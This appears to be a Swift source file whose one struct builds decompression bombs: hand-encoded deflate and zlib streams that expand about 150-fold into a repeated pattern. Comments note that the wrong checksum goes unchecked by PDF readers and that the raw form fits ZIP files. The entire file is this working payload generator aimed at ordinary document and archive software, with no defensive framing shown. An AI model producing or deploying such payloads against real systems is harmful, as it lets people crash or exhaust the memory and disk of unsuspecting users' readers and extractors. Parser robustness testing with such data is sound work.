/// Writes zlib data that unpacks to a pattern repeated very often: about 150 bytes for each byte of it.
struct DeflateBomb {
  private var bytes: [UInt8] = []
  private var pending: UInt32 = 0
  private var pendingCount: UInt32 = 0

  /// Data that unpacks to at least `size` bytes of the ASCII text `pattern`.
  static func data(of pattern: String, size: Int) -> [UInt8] {
    // A wrong checksum; readers of PDF do not look.
    [0x78, 0x9c] + raw("", of: pattern, size: size) + [0, 0, 0, 0]
  }

  /// The same without the frame of zlib, as ZIP files have it; unpacks to `beginning` and then the pattern.
  static func raw(_ beginning: String, of pattern: String, size: Int) -> [UInt8] {
    var bomb = DeflateBomb()
    bomb.put(0b011, 3)  // last block, fixed codes
    let literals = Array(pattern.utf8)
    for literal in beginning.utf8 { bomb.putCode(0x30 + UInt32(literal), 8) }
    for literal in literals { bomb.putCode(0x30 + UInt32(literal), 8) }
    // Eight copies take a whole number of bytes, so after the first eight the bytes repeat.
    for _ in 0..<8 { bomb.putCopy(distance: UInt32(literals.count)) }
    let before = bomb.bytes.count
    for _ in 0..<8 { bomb.putCopy(distance: UInt32(literals.count)) }
    let cycle = Array(bomb.bytes[before...])
    for _ in 0..<(size / 258 / 8) { bomb.bytes += cycle }
    bomb.putCode(0, 7)  // end of block
    bomb.put(0, 7)
    return bomb.bytes
  }

  /// Copies 258 bytes from `distance` bytes back.
  private mutating func putCopy(distance: UInt32) {
    putCode(0b1100_0101, 8)
    var (code, base, extra): (UInt32, UInt32, UInt32) = (0, 1, 0)
    while distance >= base + (1 << extra) {
      base += 1 << extra
      code += 1
      extra = code < 4 ? 0 : code / 2 - 1
    }
    putCode(code, 5)
    put(distance - base, extra)
  }

  /// Huffman codes go in from their highest bit.
  private mutating func putCode(_ code: UInt32, _ count: UInt32) {
    for bit in (0..<count).reversed() { put(code >> bit & 1, 1) }
  }

  private mutating func put(_ value: UInt32, _ count: UInt32) {
    pending |= value << pendingCount
    pendingCount += count
    while pendingCount >= 8 {
      bytes.append(UInt8(truncatingIfNeeded: pending))
      pending >>= 8
      pendingCount -= 8
    }
  }
}
